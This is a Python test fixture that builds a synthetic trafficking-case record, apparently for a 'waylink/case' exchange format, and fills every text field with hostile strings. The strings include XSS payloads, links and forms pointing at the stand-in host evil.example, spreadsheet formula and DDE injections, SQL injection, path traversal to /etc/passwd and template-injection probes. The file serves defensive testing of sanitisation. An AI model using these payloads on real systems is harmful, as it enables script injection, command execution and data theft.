"""Texts that a submission from abroad might carry. Each is tried in every field, page, map, chart and export."""

# ruff: noqa: E501  -- the texts stand whole on their lines

#: where a text that ran would go to
ELSEWHERE = "https://evil.example/x"

STRINGS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    f"<img src={ELSEWHERE}>", "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>", f"<iframe src={ELSEWHERE}></iframe>",
    f"<link rel=stylesheet href={ELSEWHERE}>", f"<style>@import '{ELSEWHERE}';</style>",
    f"<base href={ELSEWHERE}>", f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>", f"<object data={ELSEWHERE}></object>", f"<embed src={ELSEWHERE}>",
    f"<form action={ELSEWHERE}><button>Sign in</button></form>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<a href=javascript:alert(1)>press</a>", f"<a href={ELSEWHERE}>press</a>", '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>", "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus '",
    "`${alert(1)}`", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "{% import os %}", "#{7*7}",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", f"![x]({ELSEWHERE})", f"[press]({ELSEWHERE})",
    "[press](javascript:alert(1))", f"<{ELSEWHERE}>", ":material/home: :red[red] :smile:", "$\\href{javascript:alert(1)}{x}$",
    "# heading", "* item", "> quote", "    code", "```html\n<b>x</b>\n```", "|a|b|\n|-|-|\n|1|2|", "**bold** _it_ ~~x~~",
    "=1+1", "=HYPERLINK(\"https://evil.example/x\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "＝1+1", "＠SUM(1)", "%0A=1+1", "'; DROP TABLE case_file; --", "\" OR 1=1 --", "../../../../etc/passwd", "..\\..\\x",
    "file:///etc/passwd", "\\\\evil.example\\share", "%s%s%n", "{0.__class__}", "{name}", "\u202egnp.exe", "\u2066x\u2069",
    "a\u0000b".replace("\u0000", "\ufffd"), "\ufeffx", "z̸̢̛̬͓̈́͝a̵͉͑l̶̠̚g̴̱̈́o̷̙̒", "𝕏" * 20, "x" * 480, "ﷺ" * 10, "😈👩‍👩‍👧‍👦",
    "line\nbreak", "<!--", "-->", "<![CDATA[x]]>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;script&#x3e;", "%3Cscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>", "<xmp><img src=x onerror=alert(1)></xmp>",
)  # fmt: skip


def document(country, number, *, start=0, step=1):
    """A case that carries the strings (every ``step``-th from ``start``) in all fields that hold text."""
    texts = STRINGS[start::step]
    one = texts[number % len(texts)]
    routes = [
        {
            "id": f"r{at // 8 + 1}", "travellers": ["p1"],
            "stops": [
                {
                    "id": f"s{at + place + 1}", "role": role, "place": text, "country": where, "note": text,
                    "carrier": text, "via": text, "mode": "road", "date": "2025-05",
                    "location": {"name": text, "lat": lat + at / 10, "lon": lon + place, "admin1": text},
                }
                for place, (text, (role, where, lat, lon)) in enumerate(zip(texts[at : at + 8], SPOTS, strict=False))
            ],
        }
        for at in range(0, len(texts), 8)
    ]  # fmt: skip
    people = [
        {"id": f"p{at + 1}", "names": [{"full": text, "family": text}], "occupation": text, "note": text,
         "birth_place": text, "citizenships": ["UZ"]}
        for at, text in enumerate(texts)
    ]  # fmt: skip
    return {
        "format": "waylink/case", "version": 1,
        "submission": {"country": country, "authority": one, "reference": one, "tlp": "TLP:GREEN", "received": "2026-03-02"},
        "case": {"reference": f"{country} {number} {one}"[:190], "title": one, "summary": " ¦ ".join(texts),
                 "status": ["investigation"], "purposes": ["ForcedLabour"], "other_offences": [one], "detected": "2026-02"},
        "persons": people,
        "organisations": [{"id": f"o{at + 1}", "name": text, "note": text, "address": text, "registration": text,
                           "seat": "AE", "suspected": "yes"} for at, text in enumerate(texts)],
        "involvements": [{"who": person["id"], "as": "suspect" if at % 2 else "victim", "basis": "alleged"} if at % 2 else
                         {"who": person["id"], "as": "victim"} for at, person in enumerate(people)],
        "identifiers": [{"id": f"i{at + 1}", "kind": "online_account", "value": text, "holders": [f"p{at + 1}"],
                         "note": text} for at, text in enumerate(texts)],
        "routes": routes,
        "mentions": [{"country": "US", "kind": "context", "note": one}],
        "sources": [{"field": "case", "quote": one, "url": one}],
    }  # fmt: skip


SPOTS = (
    ("recruitment", "UZ", 39.6, 66.9), ("transit", "KZ", 43.2, 76.9), ("transit", "KG", 42.8, 74.5),
    ("harbouring", "TR", 39.9, 32.8), ("exploitation", "AE", 25.2, 55.2), ("destination", "AE", 24.4, 54.3),
    ("exploitation", "RU", 55.7, 37.6), ("refuge", "GE", 41.7, 44.8),
)  # fmt: skip
